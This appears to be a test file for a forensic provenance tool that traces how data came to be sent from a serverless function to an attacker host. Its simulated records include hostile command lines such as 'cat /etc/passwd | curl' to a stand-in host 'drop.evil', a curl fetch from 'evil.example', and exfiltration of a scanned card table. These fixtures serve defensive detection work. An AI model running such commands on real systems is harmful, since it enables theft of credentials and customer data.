/** What the story of an attack leaves out, and what it may not leave out, although ordinary requests share files with it. */
import { describe, expect, it } from 'vitest';
import { acts } from '../../../functions/graph/acts.ts';
import { addressId, fileId, hostId, requestId, requestPartition } from '../../../functions/graph/ids.ts';
import { story } from '../../../functions/graph/story.ts';
import type { Trigger } from '../../../layers/record/types.ts';
import { containerReuse } from '../attacks.ts';
import { provenanceOf } from '../memory-source.ts';
import { Clock, Recorded } from '../scenario.ts';

const OPTIONS = { limit: 500, inputs: 'data' } as const;
const from = (userAgent: string): Trigger => ({ type: 'http', sourceIp: '203.0.113.9', userAgent, method: 'POST', path: '/' });

/** A function that reads and writes one file in each of `requests` requests, and in the last one sends something away. */
function keeping(file: string, requests: number, write = (fn: Recorded) => fn.write(fn.runtime, file)) {
  const fn = new Recorded('convert', new Clock());
  for (let i = 1; i <= requests; i++) {
    fn.begin(`req-${i}`, from(`client-${i}`));
    if (i > 1) fn.read(fn.runtime, file);
    if (i === requests) fn.exchange(fn.runtime, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
    write(fn);
    fn.end();
  }
  return fn;
}

async function clientsIn(fn: Recorded, inputs: 'data' | 'none' = 'data') {
  const told = await story(provenanceOf([fn]), hostId('drop.evil'), { ...OPTIONS, inputs });
  return {
    told,
    clients: told.steps.filter(({ kind }) => kind === 'client').map(({ label }) => label.split(' ')[1]),
    file: told.steps.find(({ kind }) => kind === 'file')?.role,
  };
}

describe('a file that the function keeps for itself', () => {
  it('is named, and those who came before are not blamed', async () => {
    expect(await clientsIn(keeping('/tmp/recent.json', 5))).toMatchObject({ clients: ['client-5'], file: 'touched' });
    expect(await clientsIn(keeping('/tmp/recent.json', 5), 'none')).toMatchObject({ clients: ['client-5'], file: undefined });
  });

  it('is followed while too few requests have used it to say so', async () => {
    expect((await clientsIn(keeping('/tmp/recent.json', 2))).clients.sort()).toEqual(['client-1', 'client-2']);
  });

  it('is followed when it is code', async () => {
    expect((await clientsIn(keeping('/tmp/plugin.js', 5))).clients).toContain('client-4');
  });

  it('is followed when another process has had a hand in it, be it by a name of before', async () => {
    const byCurl = keeping('/tmp/recent.json', 5, (fn) => {
      const curl = fn.spawn(fn.runtime, 40, ['curl', 'https://evil.example']);
      fn.write(curl, '/tmp/recent.json');
      fn.exit(curl);
    });
    expect((await clientsIn(byCurl)).clients).toContain('client-4');
    const renamed = keeping('/tmp/recent.json', 5, (fn) => {
      const curl = fn.spawn(fn.runtime, 40, ['curl', 'https://evil.example']);
      fn.write(curl, '/tmp/new');
      fn.exit(curl);
      fn.add(fn.runtime, { kind: 'file-change', op: 'rename', path: '/tmp/new', to: '/tmp/recent.json' });
    });
    expect((await clientsIn(renamed)).clients).toContain('client-4');
  });

  it('is kept also when every version is written beside it first and then moved over it', async () => {
    const moved = keeping('/tmp/recent.json', 5, (fn) => {
      fn.write(fn.runtime, '/tmp/recent.json.new');
      fn.add(fn.runtime, { kind: 'file-change', op: 'rename', path: '/tmp/recent.json.new', to: '/tmp/recent.json' });
    });
    expect((await clientsIn(moved)).clients).toEqual(['client-5']);
  });

  it('is followed when it is what is asked about', async () => {
    const fn = keeping('/tmp/recent.json', 5);
    const told = await story(provenanceOf([fn]), fileId(fn.id, '/tmp/recent.json'), OPTIONS);
    expect(told.steps.filter(({ kind }) => kind === 'client').length).toBeGreaterThan(0);
  });
});

describe('children that do the same again and again', () => {
  it('are told once, the others as often as they did something else', async () => {
    const fn = new Recorded('convert', new Clock());
    fn.begin('req', from('evil'));
    const sh = fn.spawn(fn.runtime, 40, ['sh', '-c', 'while …']);
    for (let i = 0; i < 30; i++) fn.exit(fn.spawn(sh, 100 + i, ['sleep', '0.2']));
    for (const file of ['/tmp/a', '/tmp/b']) {
      const cat = fn.spawn(sh, 200 + file.charCodeAt(5), ['cat', file]);
      fn.read(cat, file);
      fn.exit(cat);
    }
    fn.exchange(sh, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
    fn.end();
    const told = await story(provenanceOf([fn]), hostId('drop.evil'), OPTIONS);
    const programs = told.steps.filter(({ kind }) => kind === 'process').map(({ label }) => label.replace(/ \(\d+\)$/, ''));
    expect(programs.filter((one) => one === 'sleep 0.2')).toHaveLength(1);
    expect(programs).toEqual(expect.arrayContaining(['cat /tmp/a', 'cat /tmp/b']));
  });
});

describe('a pipeline', () => {
  it('is told as a whole: who ended while the sender ran, before it sent', async () => {
    const fn = new Recorded('convert', new Clock());
    fn.begin('req', from('evil'));
    const sh = fn.spawn(fn.runtime, 40, ['sh', '-c', 'cat /etc/passwd | curl …; true']);
    const cat = fn.spawn(sh, 41, ['cat', '/etc/passwd']);
    const curl = fn.spawn(sh, 42, ['curl', 'drop.evil']);
    fn.exit(cat);
    fn.exchange(curl, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
    fn.exit(curl);
    const later = fn.spawn(sh, 43, ['true']);
    fn.exit(later);
    // What else the runtime runs at the time has no pipe to the shell.
    fn.exit(fn.spawn(fn.runtime, 44, ['date']));
    fn.end();
    const told = await story(provenanceOf([fn]), hostId('drop.evil'), OPTIONS);
    const programs = told.steps
      .filter(({ kind }) => kind === 'process')
      .map(({ label, sure }) => `${label.split(' ')[0]} ${sure}`);
    expect(programs.sort()).toEqual(['/var/lang/bin/node exact', 'cat inferred', 'curl exact', 'sh exact']);
  });
});

describe('what is sent before any request', () => {
  it('comes from the code that was deployed', async () => {
    const fn = new Recorded('quote', new Clock());
    fn.read(fn.runtime, '/usr/lib/libc.so');
    fn.exchange(fn.runtime, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
    fn.begin('req', from('innocent'));
    fn.end();
    const told = await story(provenanceOf([fn]), hostId('drop.evil'), OPTIONS);
    expect(told.steps.filter(({ kind }) => kind === 'image-tree').map(({ label }) => label)).toEqual(['/var/task']);
    expect(told.steps.some(({ kind }) => kind === 'client' || kind === 'request')).toBe(false);
  });
});

describe('a table that was read', () => {
  const items = (count: number) =>
    [...Array(count).keys()].map((i) => ({ type: 'table-item', id: `ddb:cards/${i}`, access: 'read' }) as const);
  const table = { type: 'table', id: 'ddb:cards', access: 'read' } as const;

  it.each([
    [2, 3],
    [9, 1],
  ])('with %i items is named with its items when they are few: %i nodes', async (count, named) => {
    const fn = new Recorded('mailer', new Clock());
    fn.begin('req', from('evil'));
    fn.aws(fn.runtime, 'dynamodb', 'Scan', [], [table, ...items(count)]);
    fn.exchange(fn.runtime, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
    fn.end();
    const told = await story(provenanceOf([fn]), hostId('drop.evil'), OPTIONS);
    expect(told.steps.filter(({ kind }) => kind === 'resource')).toHaveLength(named);
  });
});

describe('a name server', () => {
  const asked = (addr: string) => {
    const fn = new Recorded('convert', new Clock());
    fn.begin('req', from('evil'));
    const peer = { addr, port: 53, proto: 'udp' } as const;
    fn.add(fn.runtime, { kind: 'socket-connect', peer, fd: 20, localPort: 40_000, steered: false });
    fn.add(fn.runtime, { kind: 'socket-close', peer, fd: 20, sent: 300, received: 100 });
    fn.end();
    return story(provenanceOf([fn]), addressId(addr, 53), OPTIONS);
  };

  it('of the network is left out, a stranger is an endpoint like any other', async () => {
    for (const addr of ['10.0.0.2', '127.0.0.53', '169.254.169.253', '172.16.0.2', 'fd00:ec2::253'])
      expect((await asked(addr)).steps, addr).toEqual([]);
    for (const addr of ['198.51.100.7', '172.15.0.2', '127.66.0.1'])
      expect((await asked(addr)).steps.map(({ kind }) => kind).sort(), addr).toEqual([
        'client',
        'endpoint',
        'process',
        'request',
      ]);
  });
});

describe('the acts of a story', () => {
  it('hold every step once, and are what one would tell', async () => {
    const { instances, cards } = containerReuse();
    const { steps } = await story(provenanceOf(instances), hostId('drop.evil'), OPTIONS);
    const told = acts(steps);
    expect(told.flatMap((act) => act.steps).sort((a, b) => a - b)).toEqual([...steps.keys()]);
    expect(told.length).toBeLessThan(steps.length / 2);
    expect(told.map(({ at }) => at)).toEqual(told.map(({ at }) => at).sort((a, b) => a - b));
    const planting = requestId(cards.id, requestPartition('req-plant'));
    const act = told.find((one) => one.steps.some((i) => steps[i]?.node === planting));
    expect(act?.text).toContain('authorize-cc');
  });
});
